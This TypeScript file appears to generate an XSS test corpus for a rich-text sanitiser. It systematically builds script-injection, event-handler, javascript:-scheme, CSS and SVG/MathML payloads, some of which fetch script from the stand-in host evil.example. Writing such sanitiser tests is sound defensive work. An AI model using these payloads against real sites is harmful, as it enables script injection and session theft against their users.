// XSS payloads for the rich-text sanitiser, generated from the categories public cheat sheets
// describe (script injection, event handlers, dangerous URL schemes, CSS execution, SVG/MathML
// scripting, embedding elements, parser confusion) crossed with tags, handlers and encodings.
// Generated here rather than copied, so each family is complete and its size is known.

const ALERT = 'alert(1)';

/** Ways of writing the word "javascript:" that browsers still run. */
const JS_SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'java&#x09;script:',
  '&#106;avascript:',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058',
  'javascript&colon;',
  '\x01javascript:',
  'jav&#x0A;ascript:',
];

const OTHER_SCHEMES = [
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/javascript,alert(1)',
  '//evil.example/x.js',
  '\\\\evil.example\\x',
];

const URL_PAYLOADS = [...JS_SCHEMES.map((s) => `${s}${ALERT}`), ...OTHER_SCHEMES];

/** Elements and the attribute through which each loads or navigates to a URL. */
const URL_CARRIERS: Array<[string, string, string]> = [
  ['a', 'href', 'click'],
  ['img', 'src', ''],
  ['iframe', 'src', ''],
  ['form', 'action', '<button>go</button>'],
  ['button', 'formaction', 'go'],
  ['object', 'data', ''],
  ['embed', 'src', ''],
  ['base', 'href', ''],
  ['link', 'href', ''],
  ['area', 'href', ''],
  ['video', 'poster', ''],
  ['input', 'src', ''],
  ['img', 'lowsrc', ''],
  ['img', 'dynsrc', ''],
  ['blockquote', 'cite', 'q'],
  ['table', 'background', ''],
];

const EVENT_HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onbeforeprint',
  'OnErRoR',
  'onauxclick',
];

const HANDLER_TAGS = [
  'img src=x',
  'p',
  'span',
  'a href="https://example.com"',
  'div',
  'body',
  'svg',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'table',
  'td',
  'h1',
  'select autofocus',
  'textarea autofocus',
  'button',
  'iframe',
  'strong',
];

/** Ways of separating and quoting an attribute that parsers accept. */
const HANDLER_SHAPES: Array<(tag: string, handler: string) => string> = [
  (t, h) => `<${t} ${h}=${ALERT}>x`,
  (t, h) => `<${t} ${h}="${ALERT}">x`,
  (t, h) => `<${t}/${h}='${ALERT}'>x`,
  (t, h) => `<${t}\t${h}=&#97;lert(1)>x`,
  (t, h) => `<${t} title="a" ${h} = "${ALERT}" >x`,
];

const STYLE_VALUES = [
  'width: expression(alert(1))',
  'background:url(javascript:alert(1))',
  'background-image: url("javascript:alert(1)")',
  'behavior: url(xss.htc)',
  '-moz-binding: url(https://evil.example/xss.xml#x)',
  'color: red; background: url(data:text/html,<script>alert(1)</script>)',
  'color: expr/**/ession(alert(1))',
  'color: \\65xpression(alert(1))',
  'list-style-image: url(javascript:alert(1))',
  'color:red;@import "https://evil.example/x.css"',
];
const STYLE_TAGS = ['p', 'span', 'td', 'h2', 'div', 'img src="https://example.com/a.png"'];

/** SVG, MathML and other script-capable embedding, each written out in full. */
const EMBEDDED_SCRIPTING = [
  `<svg><script>${ALERT}</script></svg>`,
  `<svg onload=${ALERT}>`,
  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${ALERT}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${ALERT}"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${ALERT}"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${ALERT}">x</maction></math>`,
  `<math><mi xlink:href="javascript:${ALERT}">x</mi></math>`,
  `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<object data="javascript:${ALERT}"></object>`,
  `<embed src="javascript:${ALERT}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ALERT}">`,
  `<link rel="import" href="https://evil.example/x.html">`,
  `<base href="javascript:${ALERT}//">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>body{background:url("javascript:${ALERT}")}</style>`,
  `<template><script>${ALERT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ALERT}>">`,
  `<xmp><img src=x onerror=${ALERT}></xmp>`,
  `<form><button formaction="javascript:${ALERT}">x</button></form>`,
  `<isindex type=image src=1 onerror=${ALERT}>`,
  `<applet code="javascript:${ALERT}"></applet>`,
  `<frameset onload=${ALERT}>`,
  `<xss id=x tabindex=1 onfocus=${ALERT}></xss>`,
];

/** Script elements in the spellings filters have missed. */
const SCRIPT_SPELLINGS = [
  `<script>${ALERT}</script>`,
  `<SCRIPT>${ALERT}</SCRIPT>`,
  `<ScRiPt>${ALERT}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script/src="https://evil.example/x.js"></script>`,
  `<script\tsrc=//evil.example/x.js></script>`,
  `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
  `<<script>script>${ALERT}<</script>/script>`,
  `<script>${ALERT}`,
  `<script type="text/vbscript">msgbox(1)</script>`,
  `<script x>${ALERT}</script x>`,
  `<script\x00>${ALERT}</script>`,
];

/** Parser-confusion wrappers placed around each script spelling and embedded vector. */
const WRAPPERS: Array<(payload: string) => string> = [
  (p) => p,
  (p) => `<p>${p}</p>`,
  (p) => `<!--><p>-->${p}`,
  (p) => `<![CDATA[><p>]]>${p}`,
  (p) => `<p title="</p>${p}">x</p>`,
  (p) => `<table><tr><td>${p}</td></tr></table>`,
  (p) => `<a href="https://example.com">${p}</a>`,
  (p) => `<!-- ${p} -->${p}`,
];

export function generateXssCorpus(): string[] {
  const corpus: string[] = [];
  for (const tag of HANDLER_TAGS) {
    for (const handler of EVENT_HANDLERS) {
      for (const shape of HANDLER_SHAPES) corpus.push(shape(tag, handler));
    }
  }
  for (const [tag, attribute, inner] of URL_CARRIERS) {
    for (const url of URL_PAYLOADS) {
      corpus.push(`<${tag} ${attribute}="${url}">${inner}</${tag}>`);
      corpus.push(`<${tag} ${attribute}=${url.replace(/\s/g, '')}>${inner}</${tag}>`);
    }
  }
  for (const tag of STYLE_TAGS) {
    for (const value of STYLE_VALUES) corpus.push(`<${tag} style="${value}">x</${tag.split(' ')[0]}>`);
  }
  for (const payload of [...SCRIPT_SPELLINGS, ...EMBEDDED_SCRIPTING]) {
    for (const wrap of WRAPPERS) corpus.push(wrap(payload));
  }
  return [...new Set(corpus)];
}
